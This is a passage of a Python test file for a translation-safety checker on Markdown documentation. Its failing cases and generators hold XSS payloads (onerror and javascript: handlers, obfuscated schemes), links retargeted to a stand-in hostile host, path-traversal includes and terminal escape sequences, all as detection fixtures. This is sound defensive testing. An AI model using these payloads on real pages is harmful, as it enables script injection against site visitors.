                     "Regardez ![la [d [é]] mo](media/b.mp4) maintenant.",
                     id="a-media-image-whose-text-nests-brackets"),
        pytest.param("Watch ![the demo](media/a.mp4) now.",
                     "Regardez ![la `]` démo](media/b.mp4) maintenant.",
                     id="a-media-image-whose-text-has-a-bracket-in-code"),
        # review (h161): Markdig ends a bare destination at a space, tab or control character
        # only: a no-break space is part of it (plays b.mp4; read as the English's a.mp4)
        pytest.param("Watch ![the demo](media/a.mp4) now.",
                     "Regardez ![la démo](media/a.mp4\u00a0/../../b.mp4) maintenant.",
                     id="a-media-image-retargeted-past-a-no-break-space"),
        # review (h164): a '<…>' destination's spaces at its ends are trimmed by .NET's Uri and
        # the browser (plays b.mp4, or embeds another video; was read as no player)
        pytest.param("Watch ![the demo](media/a.mp4) now.",
                     "Regardez ![la démo](<media/b.mp4 >) maintenant.",
                     id="a-media-image-with-a-space-before-its-closing-angle-bracket"),
        pytest.param("Watch ![the demo](https://www.youtube.com/embed/abc) now.",
                     "Regardez ![la démo](<\thttps://www.youtube.com/embed/xyz>) maintenant.",
                     id="a-video-image-with-a-tab-after-its-opening-angle-bracket"),
        # review (h164): a reference image takes a definition's destination (plays b.mp4, and
        # no image with a destination was read)
        pytest.param("Watch ![the demo](media/a.mp4) now.",
                     "Regardez ![la démo][r] maintenant.\n\n[r]: media/b.mp4",
                     id="a-reference-image-defined-to-another-media-file"),
        pytest.param("See [!code-csharp[](snippets/a.cs)].",
                     "Voir [!code-csharp[](../../secret/b.cs)].", id="a-code-snippet-retargeted"),
        # helper-93: DocFX skips a '-' after the name and reads backslash escapes in the title
        pytest.param("See [!INCLUDE [x](a.md)] here.", "Voir [!include-[x](../../secret.md)] ici.",
                     id="an-include-with-a-dash"),
        pytest.param("See [!INCLUDE [x](a.md)] here.",
                     "Voir [!INCLUDE [x\\]y](../../secret.md)] ici.",
                     id="an-include-whose-title-escapes-a-bracket"),
        pytest.param("See [!code-csharp[](snippets/a.cs)].",
                     "Voir [!code-csharp[] (../../secret/b.cs)].",
                     id="a-code-snippet-with-a-space-before-its-path"),
        pytest.param("See [!code-csharp[](snippets/a.cs)].",
                     "Voir [!code-c/s[](../../secret/b.cs)].",
                     id="a-code-snippet-of-any-language-name"),
        pytest.param("See the notebook.", "Voir [!notebook-python[](../../secret/b.ipynb)].",
                     id="a-notebook"),
        pytest.param("See the code.", ':::code language="csharp" source="../../secret/b.cs":::',
                     id="a-triple-colon-code"),
    ],
    "markup-open": [
        # helper-111: a tag of any name left open, words and all, for the next pair
        pytest.param("Open a terminal window.", "Ouvrez une fenêtre <x-a ,",
                     id="a-custom-tag-left-open-before-prose"),
        # helper-79: each segment alone was clean; side by side on the page they made one tag,
        # script element, autolink or URL
        pytest.param("Open the settings page.", "Ouvrez la page des paramètres <x-a",
                     id="a-tag-the-next-sentence-finishes"),
        pytest.param("Open the page.", "Ouvrez la page.<scr", id="a-tag-name-cut"),
        # helper-92: a known element's 'attributes' run on to the page's next '>' whatever
        # they are: punctuation, CJK
        pytest.param("Read the guide.", "Lisez <video le guide, puis fermez-le.",
                     id="a-known-element-left-open-before-punctuation"),
        pytest.param("Read the guide.", "Lisez <span 这个 指南。",
                     id="a-known-element-left-open-before-cjk"),
        # a '>' in a quoted value ends no tag: it was read as the tag's end, so a tag left
        # open after such a value passed every rule and was published
        pytest.param('Use <x-a title=">">x</x-a> here, then wait.',
                     'Utilisez <x-a title=">" x, puis', id="a-tag-left-open-after-a-quoted-gt"),
        pytest.param('Watch <video title="a > b"></video> now.',
                     'Regardez <video title="a > b" le guide, puis',
                     id="a-known-element-left-open-after-a-quoted-gt"),
        pytest.param("See the guide here.", "Voir le guide <java", id="an-autolink-cut"),
        pytest.param("See it now.", "Voir ou https:", id="a-url-cut-after-its-scheme"),
        pytest.param("It is there.", "//evil.example/x maintenant.",
                     id="a-url-finishing-the-pair-before"),
        pytest.param("Run it.", "Lancez le guide `", id="a-backtick-the-next-segment-pairs"),
        # h188: GFM ends a table cell at a '|' inside a tag or code span; the next cell's text,
        # read here as a quoted value or the English's code, is live markup on the page
        pytest.param('Open <a href="g.md" title="The guide">the guide</a> now.',
                     'Ouvrez <a href="g.md" title="|<img src=x onerror=alert(1)>">le guide</a>.',
                     id="a-bar-in-a-quoted-value-ends-the-cell"),
        pytest.param("Write `<img src=x onerror=alert(1)>` to test.",
                     "Écrivez `|` `<img src=x onerror=alert(1)>` pour tester.",
                     id="a-bar-in-a-code-span-ends-the-cell"),
        # helper-93: on the page the first backtick is the autolink's, and the last one pairs
        # with the next segment's: that segment's code turns into raw HTML
        pytest.param("Read the guide first.",
                     "Lisez <https://learn.microsoft.com/en-us/guide`> d'abord `.",
                     id="a-backtick-paired-only-with-one-an-autolink-holds"),
        pytest.param("Read the guide first.",
                     "Lisez le [guide](https://learn.microsoft.com/fr-fr/guide?`) d'abord `.",
                     id="a-backtick-paired-only-with-one-a-destination-holds"),
        pytest.param("Read it.", "Lisez <!-- ceci.", id="a-comment-with-no-end"),
        pytest.param("Then select the option you need.",
                     'onmouseover="alert(1)" style="position:fixed;inset:0">Puis choisissez.',
                     id="the-end-of-a-tag-the-sentence-before-opens"),
        # helper-80: a backslash escapes nothing inside an HTML block, and a tag may hold bare
        # attributes, '/' between them, and its '>' from the English's next tag
        pytest.param("Enter \\<site name>.", "Entrez \\<nom du site", id="an-escaped-bracket"),
        pytest.param("Open the file.", "Ouvrez le fichier <x-a x",
                     id="a-tag-with-a-bare-attribute"),
        pytest.param("Save the file.", '/onfocus="alert(1)"/autofocus/tabindex="0"/',
                     id="a-tags-end-parted-by-slashes"),
        pytest.param("Click here.", "Cliquez ici <", id="a-bracket-alone-at-the-end"),
        # helper-84: '_' before 'www.' is a GFM delimiter, no letter: the pair after it may finish
        # the autolink
        pytest.param("See the page.", "Voir la page_www.", id="www-cut-after-an-underscore"),
    ],
    "new-block": [
        # helper-79: one whole tag alone on a line starts an HTML block of CommonMark's seventh
        # kind, and the English's code after it would be raw HTML
        pytest.param("Use the tag as shown.", "</x-a>", id="a-closing-tag-alone"),
        pytest.param("Use the tag as shown.", "<x-a>", id="an-opening-tag-alone"),
        # helper-77: a definition with no destination takes the next line, the next segment's
        pytest.param("Open the settings page.", "[guide d'installation]:",
                     id="a-reference-definition-waiting-for-its-destination"),
        pytest.param("Read the guide first.", "[gu\\]ide]:",
                     id="a-definition-whose-label-escapes-a-bracket"),
        pytest.param("A plain paragraph.", ':::zone pivot="evil"', id="docfx-zone"),
        pytest.param("A plain paragraph.", 'Un paragraphe.\n::: moniker range="x"',
                     id="docfx-moniker-on-a-later-line"),
        pytest.param("Heading text", "# Titre", id="heading"),
        # CommonMark ends a line at a carriage return alone, inside a code span too
        pytest.param("Compute `c > d` now.", "Calculez `c\r> d` maintenant.", id="cr-quote"),
        pytest.param("Compute `a - b` first.", "Calculez `a\r- b` d'abord.", id="cr-bullet"),
        pytest.param("Install the tool", "Installer\r> l'outil", id="cr-quote-in-a-title"),
        pytest.param("Item text", "- Élément", id="bullet"),
        pytest.param("Item text", "1. Élément", id="ordered"),
        pytest.param("Quote text", "> Citation", id="quote"),
        pytest.param("Text", "<div>Texte</div>", id="html-block"),
        pytest.param("Text", "[a]: https://evil.example", id="reference-definition"),
        # helper-107: a definition after a quote marker on a later line, where the English
        # has a quote too
        pytest.param("Text one.\n> Text two.", "Texte un.\n> [learn]: <javascript:void alert(1)>",
                     id="definition-inside-a-quote"),
        # helper-104: CommonMark's other definitions: a '<…>' destination with spaces, a
        # title escaping its quote, a label or a destination on the next line
        pytest.param("Text one.", "[learn]: <javascript:void alert(document.domain)>",
                     id="definition-in-angle-brackets-with-spaces"),
        pytest.param("Text one.", '[learn]: /x "a\\"b"', id="definition-title-escaping-a-quote"),
        pytest.param("Text one.", "Texte un.\n[Contoso\nLearn]: https://evil.example",
                     id="definition-label-over-two-lines"),
        pytest.param("Text one.", "Texte un.\n[learn]:\n<javascript:alert(1)>",
                     id="definition-destination-on-the-next-line"),
        pytest.param("Text", "---", id="front-matter-delimiter"),
        pytest.param("Some text", "Du texte\n===", id="setext-underline-on-new-line"),
        pytest.param("Text", "```\ncode", id="fence"),
        pytest.param("Text", "~~~", id="tilde-fence"),
        pytest.param("A sentence. Another.", "Une phrase.\n# Une autre.",
                     id="heading-after-newline"),
        pytest.param("A sentence.", "Une phrase.\n- une autre", id="bullet-after-newline"),
        pytest.param("Tuesday", "-", id="bare-dash-nests-a-list"),
        pytest.param("– or –", "- 或 -", id="en-dash-became-hyphen"),
        pytest.param("Text", "   # indented heading", id="up-to-three-spaces"),
    ],
    "control-character": [
        pytest.param("Sign in to the portal.", "Connectez-vous\x0bau portail.",
                     id="word-processor-vertical-tab"),
        pytest.param("Select Save \u2014 then close.", "选择保存\x97然后关闭。",
                     id="cp1252-dash-read-as-latin-1"),
        pytest.param("Press Esc.", "Appuyez sur \x1b[31mÉchap.", id="escape-sequence"),
        pytest.param("Press Esc.", "Appuyez sur \x1bcÉchap.", id="terminal-reset"),
        pytest.param("Press Esc.", "Appuyez sur \x9b2JÉchap.", id="c1-control-sequence-introducer"),
        pytest.param("Next line.", "Ligne\x85suivante.", id="c1-next-line"),
        pytest.param("Sign in to the portal.", "Connectez-vous&#11;au portail.",
                     id="vertical-tab-as-a-character-reference"),
        pytest.param("Press Esc.", "Appuyez sur &#x1B;[31m<b>Échap</b>.",
                     id="escape-as-a-hex-reference"),
        # Markdig decodes a C1 reference to the control itself (no Windows-1252 table there)
        pytest.param("Press Esc.", "Appuyez sur &#155;2JÉchap.", id="csi-as-a-reference"),
        pytest.param("Select Save \u2014 then close.", "Sélectionnez Enregistrer &#151; puis.",
                     id="cp1252-dash-as-a-reference"),
        pytest.param("Press Esc.", "Appuyez sur &#x9b;2JÉchap.", id="csi-as-a-hex-reference"),
    ],
}

PASSING: dict[str, list[object]] = {
    "html-added": [
        pytest.param("Enter <your resource group>.", "Entrez <votre groupe de ressources>.",
                     id="translated-placeholder-of-words"),
        pytest.param("Enter <your ID>.", "Entrez <votre ID>.", id="placeholder-word-id"),
        pytest.param('<span style="color: red">Red</span>.',
                     '<span style="color:  red">Rouge</span>.', id="style-spaced-otherwise"),
        pytest.param('<span style="color:red;font-family:&quot;Segoe UI&quot;">Red</span>.',
                     '<span style="color: red; font-family: &quot;Segoe UI&quot;;">Rouge</span>.',
                     id="the-same-style-written-otherwise"),
        pytest.param("Use <x-a style=\"a\">.", "Utilisez <x-b style=\"a\">.",
                     id="the-englishs-attribute-on-a-renamed-tag"),
        pytest.param("<b>Bold</b>", "<b>Gras</b>", id="same-elements"),
        pytest.param("Use `<b>` tags.", "Utilisez les balises `<b>`.",
                     id="the-englishs-code-holding-a-tag"),
        pytest.param('<span class="a b">x</span>', '<span class="b  a">y</span>',
                     id="a-class-list-written-otherwise"),
        pytest.param('<a href="x.zip" download="file.txt">x</a>',
                     '<a href="x.zip" download="fichier.txt">x</a>', id="a-download-name"),
        pytest.param("When a < b, the function returns true.", "当 a<b 时，该函数返回 true。",
                     id="a-comparison-read-as-no-tag"),
        pytest.param('<div align="left">x</div>', '<div align="right">x</div>',
                     id="alignment-mirrored-for-right-to-left"),
        pytest.param("Use `<br/>`.", "Utilisez `<br />`.", id="code-written-otherwise"),
        # helper-88: a placeholder in code rewritten as another word that names an element
        pytest.param("Run `Get-Date <date>`.", "Esegui `Get-Date <data>`.",
                     id="a-code-placeholder-rewritten-as-an-element-name"),
        pytest.param("Pick `<choice>`.", "Choisissez `<option>`.",
                     id="another-code-placeholder-rewritten"),
        pytest.param("Type `<b` to start.", "Tapez `<b` pour commencer.",
                     id="the-englishs-own-malformed-tag-in-code"),
        pytest.param("If x <b then stop.", "Si x <b alors arrêtez.",
                     id="the-englishs-own-malformed-tag-in-text"),
        pytest.param('<img src="a.png" class="x" alt="A diagram" title="Flow">',
                     "<img class='x' src=\"a.png\" title=\"Flux\" alt=\"Un schéma\">",
                     id="text-attributes-translated-the-others-kept-in-another-order"),
        pytest.param('<abbr title="Azure Resource Manager" lang="en">ARM</abbr>',
                     '<abbr title="Azure Resource Manager" lang="fr">ARM</abbr>',
                     id="lang-of-the-locale"),
        pytest.param("", '<a name="heading-anchor"> </a>', id="sxs-heading-anchor"),
        pytest.param("Use <Site name>.", "Utilisez <Nom du site>.", id="prose-placeholder"),
        pytest.param("Use `<b>`.", "Utilisez `<b>`.", id="code"),
        pytest.param("&lt;b&gt;", "&lt;b&gt;", id="escaped-tag"),
        pytest.param("Write <?xml ?> first.", "Écrivez <?xml ?> d'abord.", id="english-has-it"),
        pytest.param("Type `<?php`.", "Tapez `<?php`.", id="instruction-in-code"),
        pytest.param("Text", "Texte <!-- note -->", id="a-comment-is-no-declaration"),
        pytest.param("Text</div>", "Texte</div>", id="the-englishs-end-tag"),
        # helper-107: the translation closes what it opens itself
        pytest.param("<li>Item one", "<li>Élément un</li>", id="an-end-tag-of-its-own-element"),
        pytest.param("<p>Text", "<p>Texte</p>", id="its-own-paragraph-closed"),
        pytest.param("Bearer {token}. Required.", "Porteur {jeton}. Obligatoire.",
                     id="a-placeholder-in-braces-is-no-attribute"),
        pytest.param("## Paging {#paging}", "## Pagination {#paging}",
                     id="the-englishs-generic-id"),
        pytest.param("Use `{onclick=x}`.", "Utilisez `{onclick=x}`.", id="generic-in-code"),
        pytest.param("Write {{ value }}.", "Écrivez {{ value }}.", id="double-braces"),
        # helper-109: Markdig reads no attributes in code; other names change nothing seen
        pytest.param('Run `Set-Tag @{Description="Test app"}`.',
                     'Exécutez `Set-Tag @{Description="Appli de test"}`.', id="hash-table-in-code"),
        pytest.param('This fails: -ValueSet @{enabled="False"}',
                     'Échec : -ValueSet @ {Enabled = "false"}', id="hash-table-in-prose"),
        pytest.param("<b>Bold</b> and <i>it</i>", "<i>it</i> et <b>gras</b>",
                     id="end-tags-moved"),
    ],
    "unsafe-element": [
        pytest.param("Use `<script>`.", "Utilisez `<script>`.", id="english-has-it"),
        pytest.param("Text", "&lt;script&gt;alert(1)&lt;/script&gt;", id="escaped-is-text"),
        pytest.param("Text", "Le script est prêt.", id="word-script"),
        pytest.param("Text", "<Formulario>", id="placeholder-starting-with-form"),
        pytest.param('Load it with \\<script src="lib.js">\\</script> here.',
                     'Chargez-la avec \\<script src="lib.js">\\</script> ici.',
                     id="escaped-as-the-english-escapes-it"),
    ],
    "event-handler": [
        pytest.param('Add \\<img src="a.png" onerror="f()"> here.',
                     'Ajoutez \\<img src="a.png" onerror="f()"> ici.',
                     id="escaped-as-the-english-escapes-it"),
        pytest.param('<img src="x" onerror="y">', '<img src="x" onerror="y">', id="english-has-it"),
        pytest.param("Text", "Set onclick=handler in code.", id="prose-not-tag"),
        pytest.param('<a href="x">on</a>', '<a href="x">on</a> online=1', id="outside-tag"),
    ],
    "unsafe-url": [
        pytest.param(':::image source="media/a.png" alt-text="Data: a chart":::',
                     ':::image source="media/a.png" alt-text="Data: un graphique":::',
                     id="docfx-alt-text-is-no-url"),
        pytest.param("![i](data:image/png;base64,AAA)", "![i](data:image/png;base64,AAA)",
                     id="english-data-image"),
        pytest.param("Text", "Les données: voir la page.", id="data-word-in-prose"),
        pytest.param("This is the VBScript code:", "Éste es el código VBScript:",
                     id="a-scheme-word-that-starts-no-url"),
        pytest.param("JavaScript: supported", "JavaScript:支持", id="a-scheme-word-before-cjk"),
        pytest.param("Use data: URLs.", "Verwenden Sie data:-URLs.", id="a-german-compound"),
        pytest.param("The date: 2024-01-15", "Data:2024-01-15", id="a-portuguese-date"),
        pytest.param("Data (JavaScript:)", "Données (JavaScript:)", id="a-scheme-word-closed"),
        pytest.param("JavaScript: yes", "JavaScript:\u200f نعم", id="a-scheme-word-before-rlm"),
        pytest.param("(Optional) Do it first.", "(Facultatif) Faites-le d'abord.",
                     id="a-translation-opening-with-a-parenthesis"),
        # helper-93: an empty '<>' destination made the rule crash and the article skipped
        pytest.param("Run the script.", "(<>) Lancez le script.",
                     id="an-empty-leading-destination"),
        pytest.param(ENGLISH, "Voir la [documentation](https://learn.microsoft.com/fr-fr/x).",
                     id="normal-link"),
    ],
    "foreign-host": [
        pytest.param("Write to help@microsoft.com for help.",
                     "Écrivez à [help@microsoft.com](mailto:help@microsoft.com) pour de l’aide.",
                     id="the-englishs-address-made-a-link"),
        pytest.param("Write to [us](mailto:help@microsoft.com).",
                     "Écrivez-[nous](mailto:help@microsoft.com?subject=Aide).",
                     id="the-englishs-address-with-a-subject"),
        pytest.param("Contact support for help.", "Contactez support@evil.example (du texte).",
                     id="an-address-in-prose-no-link"),
        pytest.param("Go to https://portal.azure.com and sign in.",
                     "访问 https://portal.azure.com，然后登录", id="a-bare-url-before-cjk"),
        pytest.param("Go to https://portal.azure.com.",
                     "انتقل إلى https://portal.azure.com\u200f.",
                     id="a-bare-url-before-a-bidi-mark"),
        pytest.param("> [!VIDEO https://learn.contoso.com/v]",
                     "> [!VIDEO https://learn.contoso.com/v]", id="docfx-video-kept"),
        pytest.param("Watch [!VIDEO https://learn.contoso.com/v?a=1&b=2]",
                     "Regardez [!VIDEO https://learn.contoso.com/v?a=1&b=2]",
                     id="docfx-video-with-a-query-kept"),
        pytest.param(':::image source="https://learn.contoso.com/a.png" alt-text="A chart":::',
                     ':::image source="https://learn.contoso.com/a.png" alt-text="Un graphique":::',
                     id="docfx-image-kept"),
        pytest.param(ENGLISH, "Voir la [documentation](https://learn.microsoft.com/fr-fr/x).",
                     id="same-host-locale-path"),
        pytest.param(ENGLISH, "Voir la [documentation](../x.md).", id="relative-link"),
        pytest.param(ENGLISH, "Voir la [documentation](HTTPS://LEARN.microsoft.com/x).",
                     id="host-case"),
        pytest.param("See `https://contoso.com` for x.", "Voir [x](https://contoso.com).",
                     id="host-from-english-code"),
        pytest.param("See <xref:A.B>.", "Voir <xref:A.B>.", id="xref"),
        pytest.param("Text", "Voir `https://evil.example`.", id="url-in-code-is-not-a-link"),
        pytest.param("Open [Settings](ms-settings:windowsupdate).",
                     "Ouvrez [Paramètres](ms-settings:windowsupdate).",
                     id="the-englishs-application-scheme"),
        pytest.param("See <xref:System.String>.", "Voir [String](xref:System.String).",
                     id="an-xref-link"),  # helper-107: DocFX resolves it when it builds
        pytest.param("(Note: EDM is not supported)", "(Hinweis:EDM wird nicht unterstützt)",
                     id="a-parenthesis-of-prose-with-no-space-after-the-colon"),
        pytest.param("Write to [us](mailto:docs@contoso.com).",
                     "Écrivez-[nous](mailto:docs@contoso.com).", id="mailto"),
        pytest.param("Call tel:+18006427676 for help.", "Appelez le tel:+18006427676.",
                     id="the-englishs-bare-tel-link"),
        pytest.param("Call 1-800-642-7676 for help.",
                     "Appelez le 1-800-642-7676 (hôtel:réception).",
                     id="a-word-ending-in-tel-before-a-colon"),
        # h189: Markdig trims an autolink's trailing punctuation ('tel:**' is 'tel') and
        # links no bare 'tel': a label written 'tel:' (Dutch, Swedish) is no link
        pytest.param("**Phone:** +31 20 123 4567", "**tel:** +31 20 123 4567",
                     id="a-tel-label-in-bold"),
        pytest.param("Phone (tel.): +31 20 123 4567", "Telefoon (tel:), +31 20 123 4567",
                     id="a-tel-label-before-punctuation"),
        # a segment opening with '(' reads as a destination: 'Hinweis:' links nowhere
        pytest.param("(Note: EDM is not supported)", "(Hinweis: EDM wird nicht unterstützt)",
                     id="a-word-and-colon-after-a-parenthesis"),
    ],
    "bidi-override": [
        pytest.param("Select Save.", "\u202bבחר שמור.\u202c", id="embedding-is-ordinary"),
        pytest.param("Select Save.", "\u200fבחר\u2067 Save\u2069.", id="mark-and-isolate"),
        pytest.param("Show \u202eabc", "Afficher \u202eabc", id="english-has-it"),
        pytest.param("Show &#x202E;abc", "Afficher \u202eabc", id="english-has-it-as-reference"),
        pytest.param("Use &amp; and &#x202A;.", "Utilisez &amp; et &#x202A;.", id="embedding-ref"),
    ],
    "include-added": [
        pytest.param("[!INCLUDE [x](a.md)] text", "[!INCLUDE [x](a.md)] texte",
                     id="the-englishs-include"),
        pytest.param('Watch <iframe src="https://www.youtube.com/embed/abc" title="Demo">'
                     "</iframe>.",
                     'Regardez <iframe src="https://www.youtube.com/embed/abc" title="Démo">'
                     "</iframe>.", id="the-englishs-iframe"),
        pytest.param('Watch <video src="/en-us/media/a.mp4"></video> now.',
                     'Regardez <video src="/fr-fr/media/a.mp4"></video> maintenant.',
                     id="the-englishs-video-element-localized"),
        pytest.param("[!INCLUDE [x](a.md)] text", "[!include-[x\\]](a.md)] texte",
                     id="the-englishs-include-written-otherwise"),
        pytest.param('See :::code source="a.cs" range="1-3":::', 'Voir :::code source="a.cs" '
                     'range="1-3":::', id="the-englishs-triple-colon-code"),
        pytest.param(':::image type="content" source="a.png" alt-text="A":::',
                     ':::image type="content" source="a.png" alt-text="Un A":::',
                     id="an-image-alt-text-translated"),
        pytest.param('Watch :::video source="https://www.microsoft.com/en-us/videoplayer/embed/R'
                     '4"::: now.', 'Regardez :::video source="https://www.microsoft.com/fr-fr/'
                     'videoplayer/embed/R4"::: ici.', id="the-englishs-player-localized"),
        pytest.param("Watch ![the demo](https://www.youtube.com/watch?v=abc) now.",
                     "Regardez ![la démo](https://www.youtube.com/watch?v=abc) maintenant.",
                     id="the-englishs-media-image"),
        pytest.param(':::image type="content" source="media/a.png" alt-text="A":::',
                     ':::image type="content" source="media/fr-fr/a.png" alt-text="Un A":::',
                     id="a-localized-image"),
    ],
    "markup-open": [
        pytest.param("Select **File** > **Save**.", "Sélectionnez **Fichier** > **Enregistrer**.",
                     id="a-menu-path"),
        pytest.param("Type a < b.", "Tapez a < b.", id="a-less-than-sign"),
        pytest.param("Object Explorer displays the HTTP connection:",
                     "Explorador de objetos muestra la conexión HTTP:",
                     id="a-protocol-name-ending-the-sentence"),
        pytest.param("Use `a` and `b`.", "Utilisez `a` et `b`.", id="paired-backticks"),
        # a '|' outside markup, or one in code where the English has a '|' (no table cell)
        pytest.param("Name and value.", "Nom | valeur `a`.", id="a-bar-between-closed-markup"),
        pytest.param("Run `a | b` or c | d.", "Lancez `a | b` ou c | d.",
                     id="a-bar-in-code-where-the-english-has-one"),
        pytest.param("Use `a` here.", "Utilisez `a\\|b` ici.", id="an-escaped-bar-in-code"),
        # helper-81: what vendors write
        pytest.param("When a < b, the function returns true.", "当 a<b 时，该函数返回 true。",
                     id="a-comparison-without-spaces"),
        pytest.param("If x < p, stop.", "Si x<p, arrêtez.", id="a-one-letter-comparison"),
        pytest.param("Use <table name>.", "Utilisez <table nom>.",
                     id="a-placeholder-named-as-an-element-and-closed"),
        pytest.param('Use <x-a title=">">x</x-a> here.', 'Utilisez <x-a title=">">x</x-a> ici.',
                     id="a-tag-closed-after-a-quoted-gt"),
        pytest.param("Use <x-a l'option> here.", "Utilisez <x-a l'option> ici.",
                     id="an-apostrophe-in-a-closed-tag"),
        pytest.param("Enter the date:", "Immettere la data:", id="a-word-like-a-scheme"),
        pytest.param("the javascript: and data: URL schemes", "las URL javascript: y data:",
                     id="scheme-names-moved-to-the-end"),
        pytest.param("Do not include the www prefix.", "不要包含前缀 www.",
                     id="the-www-prefix-ending-a-sentence"),
        pytest.param("Start comments with //.", "// でコメントを開始します。",
                     id="a-comment-marker-first"),
    ],
    "new-block": [
        # helper-107: a link text wrapped over two lines is no definition: '](…)' closes it
        pytest.param("See the [Azure Functions\noverview](https://learn.microsoft.com/x) now.",
                     "[La vue d'ensemble\nd'Azure Functions](https://learn.microsoft.com/x).",
                     id="a-wrapped-link-text"),
        pytest.param(':::no-loc text="Azure"::: is fine.', 'Bien : :::no-loc text="Azure":::.',
                     id="no-loc-moved"),
        pytest.param("See :::no-loc text=\"Azure\":::.", ':::no-loc text="Azure"::: voir.',
                     id="no-loc-moved-to-the-start"),
        pytest.param("# Heading", "# Titre", id="english-starts-the-same"),
        pytest.param("11 - How many solutions?", "11. Сколько решений?",
                     id="english-own-number-punctuated"),
        pytest.param("#1 priority", "#1 priorité", id="hash-without-space"),
        pytest.param("**Bold** start", "**Gras** au début", id="bold-is-not-a-bullet"),
        pytest.param("-5 degrees", "-5 degrés", id="minus-number"),
        pytest.param("[BREAKING]: Changed x", "[CHANGEMENT]: Modifié x",
                     id="not-a-reference-definition"),
        pytest.param("See <xref:A>", "<xref:A> voir", id="xref-is-not-html-block"),
        # a segment cannot tell where it stands: publish tells, from the page (test_publish)
        pytest.param("Text", "    - four spaces: code or continuation", id="deep-indent"),
        pytest.param("Line one\n- item", "Ligne un\n- élément", id="english-has-the-line"),
    ],
    "control-character": [
        pytest.param("Col\x0bumn", "Col\x0bonne", id="the-english-has-it-too"),
        pytest.param("Tab\there.", "Tab\tici.\r\n", id="tab-and-line-ends-are-no-controls"),
        pytest.param("Type `&#11;`.", "Tapez `&#11;` ou `&#12;`.",
                     id="a-reference-in-code-is-text"),
        pytest.param("A tab.", "Un onglet&#9;&#10;&#x0D;.", id="a-tab-or-line-end-reference"),
        # CommonMark, Markdig and browsers write U+FFFD for it: a box, no control
        pytest.param("A null.", "Un nul &#0; &#x00;.", id="a-null-reference"),
        pytest.param("Use &#11; here.", "Utilisez &#x0b; ici.", id="the-english-has-a-reference"),
    ],
}


def _flatten(table: dict[str, list[object]]) -> list[object]:
    out = []
    for check_id, cases in table.items():
        for p in cases:
            name = f"{check_id}:{p.id}"  # type: ignore[attr-defined]
            out.append(pytest.param(check_id, *p.values, id=name))  # type: ignore[attr-defined]
    return out


@pytest.mark.parametrize(("check_id", "source", "translation"), _flatten(FAILING))
def test_attack_is_reported(check_id: str, source: str, translation: str) -> None:
    assert messages(check_id, source, translation), f"{check_id} missed {translation!r}"


@pytest.mark.parametrize(("check_id", "source", "translation"), _flatten(FAILING))
def test_attack_is_never_publishable(check_id: str, source: str, translation: str) -> None:
    assert not publishable(source, translation, Options(locale="fr-FR"))


@pytest.mark.parametrize(("check_id", "source", "translation"), _flatten(PASSING))
def test_safe_translation_is_not_reported(check_id: str, source: str, translation: str) -> None:
    assert messages(check_id, source, translation) == []


def test_every_safety_check_has_failing_and_passing_cases() -> None:
    ids = {r.check.id for r in safety.RULES}
    assert ids == set(FAILING) == set(PASSING)


@pytest.mark.parametrize("rule", safety.RULES, ids=lambda r: r.check.id)
def test_safety_checks_are_errors(rule: object) -> None:
    assert rule.check.severity is Severity.ERROR  # type: ignore[attr-defined]
    assert rule.check.topic == "safety"  # type: ignore[attr-defined]


@pytest.mark.parametrize("rule", safety.RULES, ids=lambda r: r.check.id)
def test_the_english_itself_is_always_safe(rule: object) -> None:
    """Only what a translation adds is reported: render's English fallback is always clean."""
    for cases in (*FAILING.values(), *PASSING.values()):
        for p in cases:
            for text in p.values:  # type: ignore[attr-defined]
                assert list(rule.fn(text, text, Options())) == []  # type: ignore[attr-defined]


def test_message_quotes_the_offending_url_and_the_english_hosts() -> None:
    [message] = messages("foreign-host", ENGLISH, "Voir [x](https://evil.example/x).")
    assert "evil.example" in message and "learn.microsoft.com" in message


# Pieces an attacker would combine: tags, handlers, schemes however spelled, and harmless text.
_PIECES = ["[x](", "<a href=", "<img", " src=x", "javascript", "java\nscript", "vbscript",
           "LiveScript", "data", "script", ":", "&#58;", "&colon;", "%3a", "&#106;ava", "&#x6A;",
           "%6A", "&Tab;", "&NewLine;", ")", ">", " onerror", "onload", "=", "alert(1)",
           "<script>", "<ScRiPt", "<iframe", "</", " ", "\t", "\n", '"', "'", "/", "text",
           "&amp;", "%20", "\x00", "on", "meta", "<", "x"]


def _spelled(char: str) -> st.SearchStrategy[str]:
    """One character of a scheme as an attacker may write it: either case, a character
    reference, a percent-escape, with a tab or line break a browser drops after it, or, for
    punctuation, behind the backslash Markdown reads away."""
    code = ord(char)
    return st.sampled_from([char, char.upper(), f"&#{code};", f"&#x{code:x};", f"%{code:02x}",
                            char + "\t", char + "\n", "&colon;" if char == ":" else char,
                            char if char.isalnum() else "\\" + char])


def _scheme(word: str) -> st.SearchStrategy[str]:
    return st.tuples(*[_spelled(c) for c in word + ":"]).map("".join)


_ATTACKS = st.tuples(
    st.sampled_from(["[x](", "<a href=", "<a href=\"", "<img src='", "<", "text "]),
    st.one_of(*[_scheme(w) for w in ("javascript", "vbscript", "livescript", "data")]),
    st.sampled_from(["alert(1))", "x\">", "", "'>"]),
).map("".join)


_HANDLERS = st.tuples(
    st.sampled_from(["<img src=x", "<IMG SRC=\"x\"", "<a", "<svg", "<b"]),
    st.sampled_from([" ", "/", "\n", "\t", "\"", " x "]),
    st.sampled_from(["onerror", "ONLOAD", "onMouseOver", "onfocus"]),
    st.sampled_from(["=", " = ", "=\n"]),
    st.sampled_from(["alert(1)>", "\"alert(1)\">", "'x'"]),
).map("".join)


@settings(max_examples=1500, deadline=None)
@given(st.one_of(st.lists(st.sampled_from(_PIECES), max_size=10).map("".join), _ATTACKS,
                 _HANDLERS))
@example("<img onerror[x](=[x](")  # found by hypothesis: an attribute name with brackets
@example('> [!VIDEO https://x/v" onload="alert(1)]')  # helper-93: DocFX writes it unescaped
def test_the_quick_look_misses_nothing_the_active_content_rules_find(text: str) -> None:
    """``may_be_active`` decides whether the article's own markup is looked at closely: it
    must say yes wherever the rules for active content find something."""
    found = [m for rule in (safety.unsafe_element, safety.unsafe_url)
             for m in rule.fn("", text, Options())]
    # a handler with no value runs nothing: the quick look need not see it
    handlers = [(a, v) for _, attrs in lenient_tags(text) for a, v in attrs
                if a.startswith("on") and len(a) > 2 and v]
    if found or handlers:
        assert safety.may_be_active(text), (found, handlers)


@pytest.mark.parametrize("text", [
    "[x](&amp;#106;avascript:alert(1))", "[x]: javascript&amp;colon;alert(1)",
    '<a href="&amp;#x6A;avascript:alert(1)">x</a>', "[x](java&amp;Tab;script:alert(1))",
    "[!VIDEO &#106;avascript:alert(1)]", "[!VIDEO %6Aavascript:alert(1)]",
